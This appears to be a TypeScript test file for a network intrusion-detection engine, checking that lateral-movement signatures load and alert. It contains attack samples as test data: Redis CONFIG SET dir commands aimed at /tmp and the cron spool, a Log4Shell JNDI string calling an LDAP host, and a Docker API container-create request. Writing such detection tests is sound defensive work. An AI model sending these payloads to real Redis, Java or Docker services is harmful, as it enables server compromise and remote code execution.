// rules/lateral.rules: loads completely, and its rules fire on the attacks they describe.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import * as path from 'node:path';
import { repoRoot } from '../support/corpus';
import { defaultDetectConfig } from '../../src/detect/detectConfig';
import { loadRuleFiles } from '../../src/detect/ruleLoader';
import { DetectEngine } from '../../src/detect/detectEngine';
import { BufferId } from '../../src/detect/buffers';
import { FlowState } from '../../src/detect/detectContext';
import { packet, sids, TestContext } from './detectFixture';

const cfg = defaultDetectConfig();
const set = loadRuleFiles([path.join(repoRoot, 'rules/lateral.rules')], cfg);
const engine = DetectEngine.compile(set, cfg);

test('lateral.rules loads without skips or errors', () => {
  assert.equal(set.errors.map((e) => e.message), []);
  assert.equal(set.skipped, []);
  assert.ok(set.signatures.length >= 10);
});

test('Redis CONFIG SET dir and Log4Shell payloads alert', () => {
  const c = new TestContext(packet({ dport: 6379, payload: '*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$4\r\n/tmp\r\n' }));
  c.flowDetect = engine.newFlowState();
  // RESP framing (what redis-cli sends) and the inline command both match.
  assert.equal(sids(engine, c), [1800030]);
  c.packet = packet({ dport: 6379, payload: 'CONFIG GET dir\r\n' });
  assert.equal(sids(engine, c), []);
  c.packet = packet({ dport: 6379, payload: 'CONFIG SET dir /var/spool/cron\r\n' });
  assert.equal(sids(engine, c), [1800030]);
  c.packet = packet({ dport: 8080, payload: 'GET /?x=${jndi:ldap://10.0.0.9/a} HTTP/1.1\r\n' });
  assert.equal(sids(engine, c), [1800040]);
});

test('Docker API container create from a container alerts once per transaction', () => {
  const c = new TestContext(packet({ dport: 2375, payload: 'POST /v1.43/containers/create HTTP/1.1\r\n' }));
  c.flowDetect = engine.newFlowState();
  c.appProto = 'http';
  c.txId = 0;
  c.buffers.set(BufferId.HTTP_METHOD, [Buffer.from('POST')]);
  c.buffers.set(BufferId.HTTP_URI, [Buffer.from('/v1.43/containers/create')]);
  assert.equal(sids(engine, c), [1800001, 1800003]);
  assert.equal(sids(engine, c), []);
});

test('SSH burst: detection_filter lets the 11th SYN in a minute alert', () => {
  const out: number[][] = [];
  for (let i = 0; i < 12; i++) {
    const c = new TestContext(packet({ dport: 22, flags: 0x02, src: '10.0.0.7', ts: 2000 + i }));
    c.flowState = FlowState.NEW;
    out.push(sids(engine, c));
  }
  assert.equal(out.map((x) => x.includes(1800050)), [false, false, false, false, false, false, false, false, false, false, true, true]);
});

test.run();
